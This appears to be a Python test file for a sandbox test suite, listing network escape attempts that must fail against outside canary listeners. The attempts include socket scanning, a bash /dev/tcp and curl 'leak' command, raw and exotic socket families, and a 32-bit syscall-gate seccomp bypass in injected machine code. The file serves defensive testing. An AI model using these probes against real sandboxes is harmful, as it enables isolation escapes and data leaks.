"""Sockets of every family: somebody listens outside (see `canaries`), and must hear nothing."""

# ruff: noqa: E501 - an attack stays in one piece

from __future__ import annotations

from torture.case import Case, attack, everything

CASES: tuple[Case, ...] = (
    attack("tcp", "network", """
import socket
refused("TCP to a listener outside", lambda: socket.create_connection(("127.0.0.1", @TCP@), 2).sendall(b"leak"))
refused("TCP to a stranger", lambda: socket.create_connection(("192.0.2.1", 80), 1))
""", tools=True),
    attack("udp", "network", """
import socket
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("127.0.0.1", @UDP@))
        one.send(b"leak")
        one.send(b"leak")  # a closed port is told about the first only by the second
        one.settimeout(1)
        one.recv(1)
refused("UDP", send)
""", tools=True),
    attack("ipv6", "network", """
import socket
refused("TCP over IPv6", lambda: socket.create_connection(("::1", @TCP6@), 2).sendall(b"leak"))
""", tools=True),
    attack("abstract-socket", "network", """
import socket
def connect():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\\0@ABSTRACT@")
        one.sendall(b"leak")
refused("abstract socket", connect)
def send():
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        one.sendto(b"leak", "\\0@ABSTRACT@-datagram")
refused("abstract datagram", send)
""", tools=True),
    attack("socket-in-a-folder", "network", """
import socket
def connect():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("@SOCKET@")
        one.sendall(b"leak")
refused("socket file", connect)
""", tools=True),
    attack("every-socket-that-can-be-found", "network", """
import glob, os, socket
found = [name for folder in ("/tmp", "/run", "/var/run", "/dev", os.getcwd(), "/") for name in glob.glob(folder + "/**/*", recursive=folder != "/")[:5000]]
try:
    found += [line.split()[-1] for line in open("/proc/net/unix") if "/" in line or "@" in line]
except OSError as error:
    print(error)
for name in found:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as one:
                one.connect(name.replace("@", "\\0", 1))
                print("BREACH connected to", name)
        except OSError:
            pass
""", tools=True),
    attack("listening", "network", """
import socket
def inside():
    with socket.socket() as one:
        one.bind(("0.0.0.0", 0))
        one.listen()
        with socket.create_connection(one.getsockname(), 1):
            pass
try:
    inside()
    print("a network of its own")
except OSError as error:
    print("refused", error)
"""),
    attack("names", "network", """
import socket
refused("a name", lambda: socket.getaddrinfo("example.com", 80))
refused("a resolver", lambda: socket.create_connection(("127.0.0.53", 53), 1))
""", tools=True),
    attack("urllib-and-shell", "network", """
import subprocess, urllib.request
refused("a page", lambda: urllib.request.urlopen("http://127.0.0.1:@TCP@/", timeout=2))
subprocess.run("(echo leak > /dev/tcp/127.0.0.1/@TCP@) 2>/dev/null; curl -m 2 http://127.0.0.1:@TCP@/ 2>/dev/null", shell=True, executable="/bin/bash")
""", tools=True),
    attack("odd-families", "network", """
import socket
for name, family in {"netlink": 16, "packet": 17, "alg": 38, "vsock": 40, "bluetooth": 31, "xdp": 44, "can": 29, "tipc": 30, "kcm": 41}.items():
    for kind in (1, 2, 3, 5):
        try:
            with socket.socket(family, kind) as one:
                if family != 16:  # netlink in an empty network of its own says nothing
                    print("BREACH", name, kind, one)
        except OSError:
            pass
""", tools=True),
    attack("raw-sockets", "network", """
import socket
refused("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
refused("packet", lambda: socket.socket(17, socket.SOCK_RAW, 3))
""", tools=True),
    attack("io-uring", "network", """
denied("io_uring_setup", NR["io_uring_setup"], 8, (ctypes.c_char * 256)())
""", tools=True),
    attack("system-calls-of-another-kind", "network", r"""
import mmap, platform
if platform.machine() == "x86_64":
    # socket(AF_INET, SOCK_STREAM, 0) by x32's number, then by the 32-bit gate: a filter that looks at one architecture sees neither.
    denied("x32 socket", 0x40000000 | 41, 2, 1, 0)
    if os.fork() == 0:
        code = bytes.fromhex("53 b8 67 01 00 00 bb 02 00 00 00 b9 01 00 00 00 31 d2 cd 80 5b c3")  # 359 is socket
        try:
            page = mmap.mmap(-1, 4096, prot=7)
            page.write(code)
            place = ctypes.addressof(ctypes.c_char.from_buffer(page))
            done = ctypes.CFUNCTYPE(ctypes.c_int)(place)()
            print("BREACH 32-bit socket" if done >= 0 else "denied", done, flush=True)
            os._exit(7 if done >= 0 else 0)
        except BaseException:
            os._exit(0)
    _, status = os.wait()
    print("child", status)
    if os.waitstatus_to_exitcode(status) == 7:
        print("BREACH a socket by the 32-bit gate")
""", tools=True),
    attack("descriptors-passed-away", "network", """
import array, os, socket
# The channel itself, sent over the channel: whoever reads it must not keep what came with it.
one = socket.socket(fileno=os.dup(0))
try:
    for _ in range(300):
        one.sendmsg([b" "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))])
except OSError as error:
    print("refused", error)
""", "finished", "died", "output"),
    attack("honest-socketpair", "network", """
import asyncio, multiprocessing, socket
left, right = socket.socketpair()
left.sendall(b"hello")
assert right.recv(5) == b"hello"
left, right = multiprocessing.Pipe()
left.send("there")
assert right.recv() == "there"
await asyncio.sleep(0)
mix = 0
""", points=everything("safe.mix")),
)  # fmt: skip
